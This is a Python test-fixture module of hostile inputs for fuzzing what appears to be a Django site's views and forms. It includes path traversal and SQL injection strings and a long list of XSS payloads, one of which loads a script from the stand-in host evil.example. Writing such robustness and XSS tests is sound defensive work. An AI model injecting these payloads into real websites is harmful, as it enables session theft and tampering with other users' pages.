"""Values a careless client or an attacker sends: every view must answer them with a 4xx or a page, never a 5xx.

Grow this list when a new kind of input breaks something; tests/test_hostile_input.py sends every
value to every URL pattern, as query parameters and as form fields, anonymously and as staff.
"""

HUGE_NUMBER = "99999999999999999999"

VALUES = [
    HUGE_NUMBER,
    "-1",
    "0",
    "1.5",
    "1e309",
    "abc",
    "",
    "\x00",
    "nul\x00in the middle",
    "\x01\x02\x1b[31m\x7f",
    "\u202eevil\u202c",
    "🙂🙂🙂",
    "钕 Côte d'Ivoire",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "%00%ff",
    "2026-02-31",
    "9999-12-31",
    " " * 5,
    "a" * 5_000,
]

# Query-string values that are not valid UTF-8 once decoded (sent percent-encoded, as a browser would).
RAW_QUERY_VALUES = ["%ff%fe%fd", "%c0%af", "%ed%a0%80"]

# Names of every form field and query parameter a view of the project reads, plus the admin's own.
FIELD_NAMES = [
    "q", "page", "p", "o", "e", "all", "section", "mineral", "country", "source", "status", "author",
    "date_from", "date_to", "replyto", "parent", "token", "honeypot", "author_name", "author_email",
    "author_url", "body_text", "email", "minerals", "countries", "source", "next", "action",
    "_selected_action", "select_across", "index", "title", "slug", "dek", "highlights", "body",
    "publish_at_0", "publish_at_1", "publish_at", "authors", "disclaimer", "position", "name",
    "symbol", "aliases", "iso_code", "owner", "controlled_by", "default_disclaimer", "text", "url",
    "kind", "subject", "intro", "date", "citations-TOTAL_FORMS", "citations-INITIAL_FORMS",
    "citations-0-source", "citations-0-url", "_changelist_filters", "_popup", "_to_field",
    "is_featured__exact", "status__exact", "section__id__exact", "minerals__id__exact",
    "countries__id__exact", "authors__id__exact", "publish_at__year", "publish_at__month",
    "created_at__gte", "article__id__exact", "daily_update__id__exact",
]

# One megabyte in one field: over any field's limit, under the request size limit.
ONE_MEGABYTE = "x" * 1_048_576

# Script injection, stored in every field that reaches a page and opened in Chromium by
# tests/browser/test_journeys_xss.py. Each vector, if it ever ran, would open a dialog (alert) or set
# window.xssRan; none contains braces, so each also fits a disclaimer's text beside its placeholders.
XSS_FLAG = "xssRan"
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<script>top.xssRan=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script src="data:text/javascript,top.xssRan=1"></script>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="top.xssRan=1">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    '<img src=x onerror="&#97;lert(1)">',
    "<img src=x onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=top.xssRan=1>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<body onload=alert(1)>",
    "<body onpageshow=top.xssRan=1>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;top.xssRan=1&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">read more</a>',
    '<a href="JaVaScRiPt:alert(1)">read more</a>',
    '<a href="&#106;avascript:alert(1)">read more</a>',
    '<a href="java&#x09;script:alert(1)">read more</a>',
    '<a href="https://example.org/" onclick="alert(1)">read more</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=top.xssRan=1>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=top.xssRan=1>",
    "<marquee onstart=alert(1)>ticker</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>send</button></form>',
    '<button formaction="javascript:alert(1)">send</button>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>top.xssRan=1</script>",
    "</script><script>alert(1)</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onfocus='top.xssRan=1' autofocus x='",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

# What an attacker types in a comment's website field: the form must refuse what is not http(s),
# and what it keeps must stay an attribute value.
XSS_WEBSITES = [
    "javascript:alert(1)",
    "JaVaScRiPt:top.xssRan=1",
    "data:text/html,<script>alert(1)</script>",
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/?q=<img/src=x/onerror=alert(1)>",
]
